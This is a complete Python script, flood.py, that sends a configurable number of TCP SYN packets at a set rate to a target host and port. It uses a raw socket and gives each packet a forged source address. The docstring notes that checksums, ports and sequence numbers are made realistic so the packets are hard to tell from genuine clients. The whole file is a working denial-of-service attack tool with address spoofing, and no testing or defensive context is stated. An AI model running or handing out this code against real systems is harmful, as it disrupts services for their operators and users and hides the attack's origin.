"""flood.py DESTINATION PORT COUNT RATE: sends COUNT TCP SYNs, RATE a second, each from another made-up source
(10.128.0.1 and up), and prints {"sent": …, "seconds": …}. What it sends is whole: sums are right, sequence numbers
and ports vary, so that only the missing handshake tells it from a client."""

import json
import socket
import struct
import sys
import time

FIRST_SOURCE = 0x0A800001
# How many go out between two looks at the clock.
BURST = 100


def sum16(words: bytes) -> int:
    return sum(struct.unpack(f"!{len(words) // 2}H", words))


def folded(total: int) -> int:
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def syn(source: int, destination: bytes, port: int) -> bytes:
    """RFC 9293 section 3.1; the kernel fills in the IP header's length and checksum (raw(7))."""
    source_port, sequence = 1024 + source % 64000, source * 2654435761 & 0xFFFFFFFF
    address = struct.pack("!I", source)
    ip = struct.pack("!BBHHHBBH", 0x45, 0, 0, 0, 0, 64, socket.IPPROTO_TCP, 0) + address + destination
    tcp = struct.pack("!HHIIBBHHH", source_port, port, sequence, 0, 5 << 4, 0x02, 64240, 0, 0)
    total = sum16(address + destination + tcp) + socket.IPPROTO_TCP + len(tcp)
    return ip + tcp[:16] + struct.pack("!H", folded(total)) + tcp[18:]


def main(destination: str, port: int, count: int, rate: int) -> None:
    sender = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    address = socket.inet_aton(destination)
    start = time.monotonic()
    for sent in range(count):
        sender.sendto(syn(FIRST_SOURCE + sent, address, port), (destination, 0))
        if sent % BURST == 0:
            time.sleep(max(0.0, start + sent / rate - time.monotonic()))
    print(json.dumps({"sent": count, "seconds": time.monotonic() - start}))


main(sys.argv[1], *map(int, sys.argv[2:5]))
